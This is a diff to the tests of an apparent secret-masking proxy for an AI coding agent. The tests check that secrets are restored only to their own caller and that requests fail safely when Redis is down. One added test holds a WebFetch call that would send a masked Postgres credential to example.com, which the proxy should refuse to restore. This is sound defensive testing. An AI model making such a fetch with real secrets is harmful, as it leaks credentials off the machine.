@@ -185,9 +185,10 @@ def jwt_restore_proxy(proxy_factory, idp, session_dir):
     return proxy_factory(config=jwt_restore_config(idp, session_dir, "jwt"), name="restore-jwt")
 
 
-def ask(proxy, token: str, text: str, tool_input: dict, *, stream: bool = True, session: str | None = None):
-    """One request as `token`'s caller; the mock answers with a Bash call of `tool_input`."""
-    script = {"kind": "tool_use", "tool": {"name": "Bash", "input": tool_input}, "max_delta": 2}
+def ask(proxy, token: str, text: str, tool_input: dict, *, stream: bool = True, session: str | None = None,
+        tool: str = "Bash"):
+    """One request as `token`'s caller; the mock answers with a call of `tool` with `tool_input`."""
+    script = {"kind": "tool_use", "tool": {"name": tool, "input": tool_input}, "max_delta": 2}
     headers = {"x-mock-script": mock_script(script)}
     if session:
         headers["x-claude-code-session-id"] = session
@@ -227,6 +228,11 @@ def test_a_caller_gets_its_own_secret_back_and_no_one_else_does(jwt_restore_prox
     # A made-up placeholder of a real rule stays as it is.
     made_up = {"command": "echo [MASKED:uri-postgres:0badc0de]"}
     assert ask(proxy, alice, "echo something", made_up) == made_up
+    # A tool that would carry the secret off the machine does not get it back.
+    fetch = {"url": f"https://example.com/?q={ph}"}
+    refused_before = metric(proxy, "streammask_placeholders_unrestored_total", reason="tool_not_allowed")
+    assert ask(proxy, alice, f"connect with {DB_URI}", fetch, tool="WebFetch") == fetch
+    assert metric(proxy, "streammask_placeholders_unrestored_total", reason="tool_not_allowed") == refused_before + 1
     for record in mock.received():
         assert DB_SECRET not in record["body"], "the secret reached the upstream"
     assert metric(proxy, "streammask_placeholders_restored_total", rule="uri-postgres") >= 3
@@ -385,14 +391,28 @@ def test_two_replicas_share_one_redis_and_it_holds_only_ciphertext(proxy_factory
         assert needle.encode() not in dump, f"found {needle[:12]!r} in Redis"
     ttl = int(redis.cli("TTL", keys[0].decode()).strip() or b"-3")
     assert 0 < ttl <= 86_400
-    # Redis down: requests still work, the vault's answer is missed (and counted), nothing hangs.
+    # Redis down. A request that carries a placeholder of an earlier request is refused (503):
+    # what was restored for it may be in it, and could no longer be masked again. Nothing hangs.
     failures_before = metric(replica_b, "streammask_restore_store_failures_total")
     redis.stop()
     started = time.monotonic()
-    assert ask(replica_b, alice, f"again with {ph}", command) == command
+    refused = httpx.post(
+        replica_b.url + "/v1/messages",
+        json=user_request(f"again with {ph}"),
+        headers={"authorization": f"Bearer {alice}", "anthropic-version": "2023-06-01",
+                 "x-mock-script": mock_script({"kind": "tool_use", "tool": {"name": "Bash", "input": command}})},
+        timeout=30,
+    )
+    assert refused.status_code == 503, refused.text
+    smtest.assert_anthropic_error(refused.content, "api_error")
+    assert ph not in refused.text and DB_SECRET not in refused.text
     assert time.monotonic() - started < 10
-    assert ask(replica_b, alice, f"connect with {DB_URI}", command) == {"command": f"psql '{DB_SECRET}'"}
-    assert metric(replica_b, "streammask_restore_store_failures_total") > failures_before
+    # A request that carries its own secret still works and restores what it carried; a
+    # placeholder it did not carry stays, counted as the store's fault.
+    made_up = "[MASKED:uri-postgres:0badc0de]"
+    got = ask(replica_b, alice, f"connect with {DB_URI}", {"command": f"psql '{ph}' # {made_up}"})
+    assert got == {"command": f"psql '{DB_SECRET}' # {made_up}"}
+    assert metric(replica_b, "streammask_restore_store_failures_total") >= failures_before + 2
     assert metric(replica_b, "streammask_placeholders_unrestored_total", reason="store_unavailable") >= 1
     for record in mock.received():
         assert DB_SECRET not in record["body"]
